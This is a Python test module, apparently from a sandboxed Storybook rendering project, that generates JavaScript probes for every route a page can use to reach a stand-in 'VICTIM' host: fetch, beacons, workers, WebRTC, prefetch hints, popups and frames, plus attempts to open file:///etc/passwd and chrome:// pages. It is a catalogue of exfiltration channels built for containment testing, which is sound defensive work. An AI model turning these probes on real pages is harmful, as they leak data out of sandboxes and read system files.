"""The roads out of a page: JavaScript that tries to reach VICTIM (host:port) or a PORT of ours.

No road may wait for an answer for ever. What a road asks for is named as the road is, so that the
victim can say by which one it was reached.
"""

from dataclasses import dataclass

from tests.consumer.little_storybook import SQUARE, LittleStory, LittleStorybook

SHARED = "fetch('http://VICTIM/shared_worker', { mode: 'no-cors' }).catch(() => {});"
SERVICE = """
self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (event) => event.waitUntil(clients.claim()));
fetch('http://VICTIM/service_worker', { mode: 'no-cors' }).catch(() => {});
self.addEventListener('fetch', (event) => {
  const asks = new URL(event.request.url).pathname;
  if (asks === '/there') event.respondWith(Response.redirect('http://VICTIM/redirect'));
});
"""
HELPERS = """
const link = (rel, as) => document.head.append(Object.assign(
  document.createElement('link'), { rel, as: as ?? '', href: `http://VICTIM/${rel}` }));
const frame = (given) => document.body.append(
  Object.assign(document.createElement('iframe'), given));
const blob = (text, type) => URL.createObjectURL(new Blob([text], { type }));
const form = (given) => { const made = Object.assign(document.createElement('form'), given);
  document.body.append(made); made.submit(); };
const add = (html) => document.body.insertAdjacentHTML('beforeend', html);
const serve = async () => { await navigator.serviceWorker.register('/service.js');
  await navigator.serviceWorker.ready;
  if (!navigator.serviceWorker.controller) await new Promise((go) => {
    navigator.serviceWorker.oncontrollerchange = go; }); };
const call = (server) => { const peer = new RTCPeerConnection({ iceServers: [server] });
  peer.createDataChannel('d');
  peer.createOffer().then((offer) => peer.setLocalDescription(offer)); };
"""
# The story goes on beside each of these.
ROADS = {
    "fetch": "await fetch('http://VICTIM/fetch')",
    "no_cors": "await fetch('http://VICTIM/no_cors', { mode: 'no-cors' })",
    "kept_alive": "await fetch('http://VICTIM/kept_alive', { mode: 'no-cors', keepalive: true })",
    "localhost_name": "await fetch('http://localhost:PORT/localhost_name', { mode: 'no-cors' })",
    "other_build": "await fetch('http://b2.localhost:PORT/other_build', { mode: 'no-cors' })",
    "zero_address": "await fetch('http://0.0.0.0:PORT/zero_address', { mode: 'no-cors' })",
    "six_address": "await fetch('http://[::ffff:127.0.0.1]:PORT/six_address', { mode: 'no-cors' })",
    "xhr": "const x = new XMLHttpRequest(); x.open('POST', 'http://VICTIM/xhr'); x.send('secret')",
    "image": "new Image().src = 'http://VICTIM/image'",
    "video": "add('<video src=http://VICTIM/video autoplay muted></video>')",
    "vector": "add('<svg><image href=http://VICTIM/vector></image></svg>')",
    "style_url": "root.style.backgroundImage = 'url(http://VICTIM/style_url)'",
    "style_import": "add('<style>@import url(http://VICTIM/style_import);</style>')",
    "font": "await new FontFace('f', 'url(http://VICTIM/font)').load()",
    "beacon": "navigator.sendBeacon('http://VICTIM/beacon', 'secret')",
    "ping": "add('<a id=away href=#x ping=http://VICTIM/ping>x</a>'); away.click()",
    "script": "await import('http://VICTIM/script')",
    "worklet": "await CSS.paintWorklet.addModule('http://VICTIM/worklet')",
    "events": "new EventSource('http://VICTIM/events')",
    "socket": "new WebSocket('ws://VICTIM/socket')",
    "worker": "new Worker(blob(`fetch('http://VICTIM/worker', { mode: 'no-cors' })`))",
    "worker_socket": "new Worker(blob(`new WebSocket('ws://VICTIM/worker_socket')`))",
    "shared_worker": "new SharedWorker('/shared.js')",
    "service_worker": "await serve()",
    "redirect": "await serve(); await fetch('/there', { mode: 'no-cors' })",
    "stylesheet": "link('stylesheet')",
    "preload": "link('preload', 'image')",
    "modulepreload": "link('modulepreload')",
    "prefetch": "link('prefetch')",
    "dns-prefetch": "link('dns-prefetch')",
    "preconnect": "link('preconnect')",
    "prerender": "link('prerender')",
    "manifest": "link('manifest')",
    "icon": "link('icon')",
    "speculation": (
        "const rules = document.createElement('script'); rules.type = 'speculationrules';"
        " const asks = (name) => [{ urls: [`http://VICTIM/${name}`], eagerness: 'immediate' }];"
        " rules.textContent = JSON.stringify({ prefetch: asks('speculation'),"
        " prerender: asks('speculation_prerender') }); document.head.append(rules)"
    ),
    "popup": "window.open('http://VICTIM/popup')",
    "popup_alone": "window.open('http://VICTIM/popup_alone', '_blank', 'noopener')",
    "popup_later": "window.open('about:blank').location = 'http://VICTIM/popup_later'",
    "popup_image": (
        "const page = window.open('about:blank').document; const image = page.createElement('img');"
        " image.src = 'http://VICTIM/popup_image'; page.body.append(image)"
    ),
    "form": "form({ target: '_blank', method: 'post', action: 'http://VICTIM/form' })",
    "frame": "frame({ src: 'http://VICTIM/frame' })",
    "frame_source": "frame({ srcdoc: '<img src=http://VICTIM/frame_source>' })",
    "frame_data": "frame({ src: 'data:text/html,<img src=http://VICTIM/frame_data>' })",
    "frame_blob": "frame({ src: blob('<img src=http://VICTIM/frame_blob>', 'text/html') })",
    "frame_refresh": (
        "frame({ srcdoc:"
        " '<meta http-equiv=refresh content=\"0;url=http://VICTIM/frame_refresh\">' })"
    ),
    "frame_missing": (
        "const f = document.createElement('iframe'); f.src = '/missing.html';"
        " const asks = () => f.contentWindow.fetch('http://VICTIM/frame_missing',"
        " { mode: 'no-cors' }); f.onload = () => asks().catch(() => {}); document.body.append(f)"
    ),
    "object": "add('<object data=http://VICTIM/object></object>')",
    "embed": "add('<embed src=http://VICTIM/embed>')",
    "transport": "await new WebTransport('https://VICTIM/transport').ready",
    "login": (
        "await navigator.credentials.get({ identity: { providers:"
        " [{ configURL: 'https://VICTIM/login.json', clientId: 'a' }] } })"
    ),
    "stun": "call({ urls: 'stun:VICTIM' })",
    "turn": "call({ urls: 'turn:VICTIM?transport=tcp', username: 'a', credential: 'b' })",
}
# What nobody can tell apart, or tells only without a name; and what this browser never does.
UNNAMED = {
    "worklet": "asked with no client of its own",
    "dns-prefetch": "a connection without a request",
    "preconnect": "a connection without a request",
    "prerender": "given up by browsers",
    "manifest": "read by browsers with windows",
    "icon": "read by browsers with windows",
    "transport": "datagrams",
    "login": "encrypted",
    "turn": "one connection, as those of many",
    "redirected": "asks as `redirect` does",
    "popup_image": "its window is closed, now and then before it has asked",
    "popup_later": "its window is closed, now and then before it has asked",
}
# The story is left by each of these; by some, the browser does not go.
LEAVING = {
    "location": "location.href = 'http://VICTIM/location'",
    "refresh": "add('<meta http-equiv=refresh content=\"0;url=http://VICTIM/refresh\">')",
    "form_itself": "form({ method: 'post', action: 'http://VICTIM/form_itself' })",
    "frame_to_top": "frame({ srcdoc: '<a target=_top href=http://VICTIM/frame_to_top id=go>x</a>',"
    " onload(event) { event.target.contentDocument.getElementById('go').click(); } })",
    "redirected": "await serve(); location.href = '/there'",
    "download": "add('<a id=away download=x href=http://VICTIM/download>x</a>'); away.click()",
    "to_blob": "location.href = blob('<img src=http://VICTIM/to_blob>', 'text/html')",
}
STAYING = {
    "to_file": "location.href = 'file:///etc/passwd'",
    "to_internal": "location.href = 'chrome://version'",
    "to_source": "location.href = 'view-source:http://VICTIM/to_source'",
    "to_data": "location.href = 'data:text/html,<img src=http://VICTIM/to_data>'",
    "to_extension": "location.href = 'chrome-extension://abc/x.html'",
    "to_mail": "location.href = 'mailto:somebody@VICTIM'",
    "open_file": "window.open('file:///etc/passwd')",
    "open_internal": "window.open('chrome://settings')",
    "open_tools": "window.open('devtools://devtools/bundled/inspector.html')",
    "open_data": "window.open('data:text/html,<img src=http://VICTIM/open_data>')",
    "frame_file": "frame({ src: 'file:///etc/passwd' })",
    "fetch_file": "await fetch('file:///etc/passwd')",
    "fetch_internal": "await fetch('chrome://version')",
}
EVERY = "every-road"


@dataclass(frozen=True, slots=True)
class Town:
    """Where the roads lead: a port of 127.0.0.1."""

    port: int

    def road(self, name: str, script: str) -> LittleStory:
        """Return a story that takes the road, and stays for long enough for it to be seen."""
        return self.story(f"const {_word(name)} = async () => {{ {script}; }};", [_word(name)])

    def every_road(self) -> LittleStory:
        """Return a story that takes all roads that do not leave it."""
        names = {_word(name): script for name, script in (ROADS | STAYING).items()}
        made = "".join(f"const {name} = async () => {{ {body}; }};" for name, body in names.items())
        return self.story(made, list(names))

    def script(self) -> str:
        """Return what takes all roads in a page of another host, whose `root` is there."""
        taken = (f"(async () => {{ {body}; }})().catch(() => {{}});" for body in ROADS.values())
        return self._placed(f"{HELPERS} {''.join(taken)}")

    def story(self, roads: str, names: list[str]) -> LittleStory:
        taken = ", ".join(f"{name}().catch(() => {{}})" for name in names)
        body = (
            f"root.innerHTML = `{SQUARE}`; const own = await fetch('index.json'); {HELPERS} {roads}"
            "const late = new Promise((done) => setTimeout(done, 700));"
            f"await Promise.race([Promise.all([{taken}]), late]); await late;"
            "if (!own.ok) throw new Error('the own origin did not answer');"
        )
        return LittleStory(self._placed(body))

    def storybook(self) -> LittleStorybook:
        """Return a Storybook of one story for all roads, and one for each that leaves."""
        leaving = {name: self.road(name, script) for name, script in LEAVING.items()}
        return self.with_files({EVERY: self.every_road(), **leaving})

    def with_files(self, stories: dict[str, LittleStory]) -> LittleStorybook:
        files = {"index.json": "{}", "shared.js": SHARED, "service.js": SERVICE}
        placed = {name: self._placed(text).encode() for name, text in files.items()}
        return LittleStorybook(stories, placed)

    def _placed(self, script: str) -> str:
        return script.replace("VICTIM", f"127.0.0.1:{self.port}").replace("PORT", str(self.port))


def _word(name: str) -> str:
    return "road_" + name.replace("-", "_")
